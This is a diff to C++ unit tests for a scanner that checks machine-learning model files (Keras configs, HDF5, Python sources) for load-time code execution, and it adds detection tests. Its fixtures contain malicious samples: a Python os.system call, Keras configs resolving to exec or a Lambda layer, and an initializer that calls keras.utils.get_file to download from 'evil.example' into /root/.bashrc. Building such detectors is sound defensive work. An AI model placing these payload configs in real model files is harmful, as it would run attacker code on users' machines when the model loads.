@@ -66,10 +66,13 @@ TEST(ScanBufferTest, ExecutablesAndCodeAreFlagged) {
       "ELF\x02\x01\x01\x00",
       8);
   EXPECT_EQ(ScanBuffer(Bytes(elf), "libcustom.so", {}).verdict, Verdict::kMalicious);
+  // Every .py file needs review; one that runs a process is malicious (issue #12, class 6).
   std::string py = "import os\nos.system('id')\n";
   auto r = ScanBuffer(Bytes(py), "modeling_custom.py", {});
-  EXPECT_EQ(r.verdict, Verdict::kInconclusive);
+  EXPECT_EQ(r.verdict, Verdict::kMalicious);
   EXPECT_EQ(r.findings.at(0).rule_id, "code.python-source");
+  auto plain = ScanBuffer(Bytes(std::string("import torch\nx = torch.zeros(3)\n")), "m.py", {});
+  EXPECT_EQ(plain.verdict, Verdict::kInconclusive);
 }
 
 TEST(ScanBufferTest, ImagesAreCleanButImageZipPolyglotsAreNot) {
@@ -164,6 +167,56 @@ TEST(KerasTest, KerasV3ConfigJsonIsJudgedToo) {
       R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": {"module": "builtins", "class_name": "function", "config": "exec"}}}]}})";
   auto r = ScanBuffer(Bytes(config), "config.json", {});
   EXPECT_EQ(r.verdict, Verdict::kMalicious);
+}
+
+// Issue #12 class 5: names resolved the way Keras 3 resolves them (module + "." + class_name).
+TEST(KerasTest, Keras3ModuleAndClassNameResolveToLambda) {
+  std::string config =
+      R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [)"
+      R"({"module": "keras", "class_name": "layers.Lambda", "config": {"function": "f"}}]}})";
+  auto r = ScanBuffer(Bytes(config), "config.json", {});
+  EXPECT_EQ(r.verdict, Verdict::kMalicious);
+  bool lambda = false;
+  for (const auto& f : r.findings) lambda |= f.rule_id == "keras.lambda-layer";
+  EXPECT_TRUE(lambda);
+  std::string deep =
+      R"({"class_name": "Sequential", "config": {"layers": [{"module": )"
+      R"("keras.src.layers.core.lambda_layer", "class_name": "Lambda", "config": {}}]}})";
+  EXPECT_EQ(ScanBuffer(Bytes(Hdf5With(deep)), "model.h5", {}).verdict, Verdict::kMalicious);
+}
+
+TEST(KerasTest, InitializerGivenByModulePathIsALoadTimeCall) {
+  // keras.utils.get_file as a Dense kernel initializer: downloads into the home folder on load.
+  std::string config =
+      R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": )"
+      R"("keras.layers", "class_name": "Dense", "config": {"units": 2, "kernel_initializer": )"
+      R"({"module": "keras.utils", "class_name": "get_file", "config": {"origin": )"
+      R"("https://evil.example/x", "fname": "/root/.bashrc"}}}}]}})";
+  auto r = ScanBuffer(Bytes(config), "config.json", {});
+  EXPECT_EQ(r.verdict, Verdict::kMalicious);
+  bool call = false;
+  for (const auto& f : r.findings) call |= f.rule_id == "keras.load-time-call";
+  EXPECT_TRUE(call);
+  // The same through {"class_name": "function"}: the function name is in "config".
+  std::string fn =
+      R"({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", )"
+      R"("module": "keras.layers", "config": {"activation": {"module": "keras.config", )"
+      R"("class_name": "function", "config": "enable_unsafe_deserialization"}}}]}})";
+  EXPECT_EQ(ScanBuffer(Bytes(Hdf5With(fn)), "model.h5", {}).verdict, Verdict::kMalicious);
+  // Ordinary initializers, regularizers, constraints and activations stay clean.
+  std::string ok =
+      R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": )"
+      R"("keras.layers", "class_name": "Dense", "config": {"units": 2, "kernel_initializer": )"
+      R"({"module": "keras.initializers", "class_name": "GlorotUniform", "config": {}}, )"
+      R"("kernel_regularizer": {"module": "keras.regularizers", "class_name": "L2", "config": )"
+      R"({"l2": 0.01}}, "kernel_constraint": {"module": "keras.constraints", "class_name": )"
+      R"("MaxNorm", "config": {}}, "activation": {"module": "keras.activations", "class_name": )"
+      R"("function", "config": "relu"}}}]}})";
+  EXPECT_EQ(ScanBuffer(Bytes(ok), "config.json", {}).verdict, Verdict::kClean);
+  // A Keras area we do not know: needs review.
+  std::string odd = R"({"class_name": "Sequential", "config": {"layers": [{"module": )"
+                    R"("keras.somethingnew", "class_name": "Thing", "config": {}}]}})";
+  EXPECT_EQ(ScanBuffer(Bytes(odd), "config.json", {}).verdict, Verdict::kInconclusive);
 }
 
 TEST(YamlTest, PythonTagsAndTemplatesInAnyScalarStyle) {
